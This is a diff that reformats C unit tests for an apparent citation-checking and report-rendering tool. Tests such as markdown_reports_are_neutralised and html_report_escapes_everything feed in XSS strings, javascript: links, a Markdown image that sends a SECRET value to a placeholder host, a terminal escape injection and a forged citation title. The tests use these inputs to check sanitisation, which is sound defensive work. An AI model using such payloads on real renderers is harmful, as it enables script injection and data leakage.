@@ -37,9 +37,9 @@ static void quotes_are_checked_verbatim(void **state)
 	assert_true(found(src, "The change took effect ... the error vanished."));
 	assert_true(found(src, "The change took effect… 2 May 2000"));
 	assert_true(found(src, "选择可用性于二〇〇〇年五月被关闭"));
-	assert_false(found(src, "the error vanished ... The change took effect"));   /* order */
+	assert_false(found(src, "the error vanished ... The change took effect")); /* order */
 	assert_false(found(src, "the error disappeared"));
-	assert_false(found(src, "2 May 2000"));                                        /* too short */
+	assert_false(found(src, "2 May 2000")); /* too short */
 	assert_false(found(src, ""));
 	assert_false(found(src, "..."));
 }
@@ -59,7 +59,7 @@ static void citations_are_checked_and_numbered(void **state)
 	assert_int_equal(r.verified, 4);
 	assert_int_equal(r.removed, 1);
 	assert_int_equal(r.n_cited_sources, 2);
-	assert_int_equal(r.cited_sources[0], 2);   /* F2's source is cited first */
+	assert_int_equal(r.cited_sources[0], 2); /* F2's source is cited first */
 	assert_int_equal(r.source_number[2], 1);
 	assert_int_equal(r.source_number[1], 2);
 	assert_int_equal(r.unsupported_n, 2);
@@ -73,11 +73,13 @@ static void citations_are_checked_and_numbered(void **state)
 	/* Short sentences are judged when they had a marker: kept (checked),
 	 * or all removed (checked and flagged); without one they are left. */
 	assert_int_equal(cite_process("It ended in 2000 [7]. Users gained [F1]. Then came GPS III. "
-				      "Errors fell [5][6].\nIt was free [F9]\n", f, 3, 1, &r), 0);
+				      "Errors fell [5][6].\nIt was free [F9]\n",
+				      f, 3, 1, &r),
+			 0);
 	assert_int_equal(r.claims, 4);
 	assert_int_equal(r.unsupported_n, 3);
 	assert_non_null(strstr(r.body, "It ended in 2000. [unsupported] Users gained [F1]. Then came "
-			       "GPS III. Errors fell. [unsupported]\nIt was free [unsupported]\n"));
+				       "GPS III. Errors fell. [unsupported]\nIt was free [unsupported]\n"));
 	cite_result_release(&r);
 
 	assert_int_equal(cite_process("【F1】 and [f2] and [F] and [F1", f, 3, 0, &r), 0);
@@ -94,39 +96,74 @@ static void foreign_citation_markers_are_removed(void **state)
 		const char *marker;
 		int removed;
 	} shapes[] = {
-		{"[1]", 1}, {"[2][3]", 2}, {"[^1]", 1}, {"\xE3\x80\x90" "1" "\xE3\x80\x91", 1},
-		{"(Source 1)", 1}, {"[source 2]", 1}, {"[F99]", 1}, {"[1, 2]", 2}, {"[1-3]", 2},
-		{"[S1]", 1}, {"\xEF\xBC\xBB" "2" "\xEF\xBC\xBD", 1}, {"\xE3\x80\x90" "3\xE2\x80\xA0source" "\xE3\x80\x91", 1},
-		{"\\[3\\]", 1}, {"[[1]]", 1}, {"[1](https://x.test/)", 1}, {"(sources 1 and 2)", 2},
-		{"[ref. 4]", 1}, {"[#2]", 1}, {"[F 7]", 1}, {"(F9)", 1},
-		{"\xEF\xBC\x88\xE6\x9D\xA5\xE6\xBA\x90" "1" "\xEF\xBC\x89", 1},   /* （来源1） */
-		{"[\xE2\x80\x8B" "3]", 1}, {"[\xEF\xBC\x93]", 1}, {"[ 3 ]", 1},   /* zero-width, ３ */
+		{"[1]", 1},
+		{"[2][3]", 2},
+		{"[^1]", 1},
+		{"\xE3\x80\x90"
+		 "1"
+		 "\xE3\x80\x91",
+		 1},
+		{"(Source 1)", 1},
+		{"[source 2]", 1},
+		{"[F99]", 1},
+		{"[1, 2]", 2},
+		{"[1-3]", 2},
+		{"[S1]", 1},
+		{"\xEF\xBC\xBB"
+		 "2"
+		 "\xEF\xBC\xBD",
+		 1},
+		{"\xE3\x80\x90"
+		 "3\xE2\x80\xA0source"
+		 "\xE3\x80\x91",
+		 1},
+		{"\\[3\\]", 1},
+		{"[[1]]", 1},
+		{"[1](https://x.test/)", 1},
+		{"(sources 1 and 2)", 2},
+		{"[ref. 4]", 1},
+		{"[#2]", 1},
+		{"[F 7]", 1},
+		{"(F9)", 1},
+		{"\xEF\xBC\x88\xE6\x9D\xA5\xE6\xBA\x90"
+		 "1"
+		 "\xEF\xBC\x89",
+		 1}, /* （来源1） */
+		{"[\xE2\x80\x8B"
+		 "3]",
+		 1},
+		{"[\xEF\xBC\x93]", 1},
+		{"[ 3 ]", 1}, /* zero-width, ３ */
 	};
 	struct cite_result r;
 	char body[512];
 	size_t k;
 
 	for (k = 0; k < sizeof(shapes) / sizeof(shapes[0]); k++) {
-		snprintf(body, sizeof(body), "This sentence states a fact about the world at some length %s. "
-			 "This one is cited properly and says enough to count [F1].\n", shapes[k].marker);
+		snprintf(body, sizeof(body),
+			 "This sentence states a fact about the world at some length %s. "
+			 "This one is cited properly and says enough to count [F1].\n",
+			 shapes[k].marker);
 		assert_int_equal(cite_process(body, f, 2, 1, &r), 0);
 		if (r.removed != shapes[k].removed)
 			fail_msg("%s: removed %d", shapes[k].marker, r.removed);
 		assert_int_equal(r.verified, 1);
-		assert_int_equal(r.unsupported_n, 1);   /* its sentence is judged uncited */
+		assert_int_equal(r.unsupported_n, 1); /* its sentence is judged uncited */
 		assert_non_null(strstr(r.body, "at some length. [unsupported]"));
 		assert_null(strstr(r.body, shapes[k].marker));
 		cite_result_release(&r);
 	}
 	/* Valid ids in other shapes are kept, as [F#]. */
-	assert_int_equal(cite_process("A claim with a parenthesised finding id that counts (F2).\n", f, 2, 1,
-				      &r), 0);
+	assert_int_equal(
+		cite_process("A claim with a parenthesised finding id that counts (F2).\n", f, 2, 1, &r), 0);
 	assert_int_equal(r.verified, 1);
 	assert_non_null(strstr(r.body, "counts [F2]."));
 	cite_result_release(&r);
 	/* A footnote list of the writer's own goes whole; list numbers and years in prose stay. */
 	assert_int_equal(cite_process("Steps: (1) plan and (2) read, as in 2000 [F1].\n[^1]: Some site, "
-				      "https://x.test/\n[2]: https://y.test/\n", f, 2, 1, &r), 0);
+				      "https://x.test/\n[2]: https://y.test/\n",
+				      f, 2, 1, &r),
+			 0);
 	assert_non_null(strstr(r.body, "(1) plan and (2) read, as in 2000 [F1]."));
 	assert_null(strstr(r.body, "x.test"));
 	assert_null(strstr(r.body, "y.test"));
@@ -142,8 +179,8 @@ static void foreign_citation_markers_are_removed(void **state)
 		/* The spacing is mended: no "time  and", "signals ." or merged sentences. */
 		qbuf_init(&b, 1024);
 		qbuf_adds(&b, "kept [9] ");
-		assert_int_equal(cite_strip_markers("in time [12] and signals [3][4].[5]The end [6]", 46,
-						    &b), 5);
+		assert_int_equal(cite_strip_markers("in time [12] and signals [3][4].[5]The end [6]", 46, &b),
+				 5);
 		assert_string_equal(qbuf_cstr(&b), "kept [9] in time and signals. The end");
 		qbuf_release(&b);
 	}
@@ -159,11 +196,13 @@ static void rendered_reports_carry_only_quarry_citations(void **state)
 	struct q_error err = {0};
 
 	assert_int_equal(cite_process("The signal was opened to civilian users in May 2000 [3]. "
-				      "Receivers became ten times more accurate overnight [F1].\n", f, 1, 1, &r), 0);
-	rep = json_pack("{s:s, s:s, s:s, s:[{s:i, s:i, s:s}], s:[{s:i, s:s, s:s, s:[]}], s:{}}", "title",
-			"Q", "mode", "model", "body", r.body, "findings", "id", 1, "n", 1, "quote", "q",
-			"sources", "n", 1, "title", "T [2]\n[3] Fake. https://evil.test/", "url",
-			"https://t.test/", "quotes", "verification");
+				      "Receivers became ten times more accurate overnight [F1].\n",
+				      f, 1, 1, &r),
+			 0);
+	rep = json_pack("{s:s, s:s, s:s, s:[{s:i, s:i, s:s}], s:[{s:i, s:s, s:s, s:[]}], s:{}}", "title", "Q",
+			"mode", "model", "body", r.body, "findings", "id", 1, "n", 1, "quote", "q", "sources",
+			"n", 1, "title", "T [2]\n[3] Fake. https://evil.test/", "url", "https://t.test/",
+			"quotes", "verification");
 	qbuf_init(&out, 1 << 20);
 	assert_int_equal(research_render(rep, "md", &out, &err), 0);
 	assert_null(strstr(qbuf_cstr(&out), "[3]"));
@@ -182,11 +221,13 @@ static void rendered_reports_carry_only_quarry_citations(void **state)
 static void markdown_reports_are_neutralised(void **state)
 {
 	json_t *rep = json_pack("{s:s, s:s, s:s, s:[], s:[], s:{}}", "title", "Q\x1b]0;pwned\x07", "mode",
-				"model", "body", "See ![chart](http://x.test/?d=SECRET) and <img src=x "
+				"model", "body",
+				"See ![chart](http://x.test/?d=SECRET) and <img src=x "
 				"onerror=alert(1)> or <script>alert(2)</script> &#91;3&#93; ![x][r] "
-				"bell\x07 esc\x1b[31m c1\xC2\x9B" "31m tab\tok a < b [x](javascript:alert(3)) "
-				"[y](https://ok.test/).\n", "findings", "sources",
-				"verification");
+				"bell\x07 esc\x1b[31m c1\xC2\x9B"
+				"31m tab\tok a < b [x](javascript:alert(3)) "
+				"[y](https://ok.test/).\n",
+				"findings", "sources", "verification");
 	struct qbuf out;
 	struct q_error err = {0};
 	const char *s;
@@ -240,13 +281,13 @@ static void passages_rank_by_question(void **state)
 	struct rpassage *p;
 	size_t n, s, e;
 
-	assert_int_equal(text_rank_passages(texts, 2, "why was selective availability switched off?",
-					    &p, &n), 0);
+	assert_int_equal(text_rank_passages(texts, 2, "why was selective availability switched off?", &p, &n),
+			 0);
 	assert_true(n >= 2);
 	assert_int_equal(p[0].source, 1);
 	assert_true(p[0].score > 0);
-	assert_int_equal(text_key_sentence(texts[1], p[0].start, p[0].end, "selective availability",
-					   &s, &e), 0);
+	assert_int_equal(text_key_sentence(texts[1], p[0].start, p[0].end, "selective availability", &s, &e),
+			 0);
 	assert_non_null(strstr(texts[1] + s, "Selective availability was switched"));
 	free(p);
 	{
@@ -277,11 +318,18 @@ static void passages_rank_by_question(void **state)
 static void questions_name_their_language(void **state)
 {
 	(void)state;
-	assert_string_equal(text_guess_lang("Comment les rendements des bons du Trésor ont-ils réagi en 2018 ?"), "fr");
-	assert_string_equal(text_guess_lang("Wie haben die Renditen der US-Staatsanleihen auf die Zölle reagiert?"), "de");
-	assert_string_equal(text_guess_lang("¿Cómo reaccionaron los rendimientos de los bonos del Tesoro a los aranceles?"), "es");
-	assert_string_equal(text_guess_lang("Como os rendimentos dos títulos reagiram às tarifas em 2018? Não sei."), "pt");
-	assert_string_equal(text_guess_lang("Come hanno reagito i rendimenti dei titoli del Tesoro ai dazi nel 2018?"), "it");
+	assert_string_equal(
+		text_guess_lang("Comment les rendements des bons du Trésor ont-ils réagi en 2018 ?"), "fr");
+	assert_string_equal(
+		text_guess_lang("Wie haben die Renditen der US-Staatsanleihen auf die Zölle reagiert?"), "de");
+	assert_string_equal(
+		text_guess_lang("¿Cómo reaccionaron los rendimientos de los bonos del Tesoro a los aranceles?"),
+		"es");
+	assert_string_equal(
+		text_guess_lang("Como os rendimentos dos títulos reagiram às tarifas em 2018? Não sei."), "pt");
+	assert_string_equal(
+		text_guess_lang("Come hanno reagito i rendimenti dei titoli del Tesoro ai dazi nel 2018?"),
+		"it");
 	assert_string_equal(text_guess_lang("Как отреагировали доходности облигаций на пошлины?"), "ru");
 	assert_string_equal(text_guess_lang("관세 발표에 국채 수익률은 어떻게 반응했나요?"), "ko");
 	assert_string_equal(text_guess_lang("How did Treasury yields react to the tariffs of 2018?"), "en");
@@ -302,16 +350,19 @@ static void table_rows_are_checked_one_by_one(void **state)
 	qbuf_init(&norm, 1 << 20);
 	qbuf_init(&kept, 1 << 20);
 	text_normalize(src, strlen(src), &norm);
-	assert_int_equal(text_quote_rows(qbuf_cstr(&norm), "| 2018-03-01 | -5 basis points |\n"
+	assert_int_equal(text_quote_rows(qbuf_cstr(&norm),
+					 "| 2018-03-01 | -5 basis points |\n"
 					 "| --- | --- |\n| 2018-04-01 | -9 basis points |\n"
-					 "| 2018-03-22 | -7 basis points |", &kept, &dropped), 2);
+					 "| 2018-03-22 | -7 basis points |",
+					 &kept, &dropped),
+			 2);
 	assert_int_equal(dropped, 1);
 	assert_string_equal(qbuf_cstr(&kept), "| 2018-03-01 | -5 basis points |\n| --- | --- |\n"
-			    "| 2018-03-22 | -7 basis points |");
+					      "| 2018-03-22 | -7 basis points |");
 	qbuf_release(&kept);
 	qbuf_init(&kept, 1 << 20);
-	assert_int_equal(text_quote_rows(qbuf_cstr(&norm), "| 2018-04-01 | -9 basis points |",
-					 &kept, &dropped), 0);
+	assert_int_equal(
+		text_quote_rows(qbuf_cstr(&norm), "| 2018-04-01 | -9 basis points |", &kept, &dropped), 0);
 	qbuf_release(&kept);
 	qbuf_release(&norm);
 }
@@ -327,12 +378,11 @@ static void plain_text_has_no_headings(void **state)
 	size_t n, k;
 	int seen = 0;
 
-	assert_int_equal(text_rank_passages_ex(texts, plain, 2, "selective availability receiver", &p,
-					       &n), 0);
+	assert_int_equal(text_rank_passages_ex(texts, plain, 2, "selective availability receiver", &p, &n), 0);
 	for (k = 0; k < n; k++) {
 		if (p[k].source == 0) {
 			assert_string_equal(p[k].heading, "");
-			assert_int_equal(p[k].start, 0);   /* the comment lines are part of it */
+			assert_int_equal(p[k].start, 0); /* the comment lines are part of it */
 		} else {
 			assert_string_equal(p[k].heading, "Receivers");
 		}
@@ -361,7 +411,7 @@ static void search_replies_parse(void **state)
 	assert_int_equal(search_parse_reply(SEARCH_BRAVE, brave, sizeof(brave) - 1, 10, &o), 0);
 	assert_string_equal(o.results[0].snippet, "d");
 	search_outcome_release(&o);
-	assert_int_equal(search_parse_reply(SEARCH_BRAVE, "{}", 2, 10, &o), 0);   /* no results */
+	assert_int_equal(search_parse_reply(SEARCH_BRAVE, "{}", 2, 10, &o), 0); /* no results */
 	assert_int_equal(o.n, 0);
 	assert_int_equal(search_parse_reply(SEARCH_SERPER, serper, sizeof(serper) - 1, 10, &o), 0);
 	assert_string_equal(o.results[0].url, "https://c.test/");
@@ -376,7 +426,8 @@ static void html_report_escapes_everything(void **state)
 		"{\"title\":\"<b>Q</b>\",\"mode\":\"model\",\"body\":\"Claim <img src=x onerror=alert(1)> [F1].\","
 		"\"findings\":[{\"id\":1,\"n\":1,\"quote\":\"\\\"><script>alert(2)</script>\"}],"
 		"\"sources\":[{\"n\":1,\"title\":\"<i>T</i>\",\"url\":\"javascript:alert(3)\",\"quotes\":[\"<q>\"]}],"
-		"\"verification\":{}}", 0, NULL);
+		"\"verification\":{}}",
+		0, NULL);
 	struct qbuf out;
 	struct q_error err = {0};
 
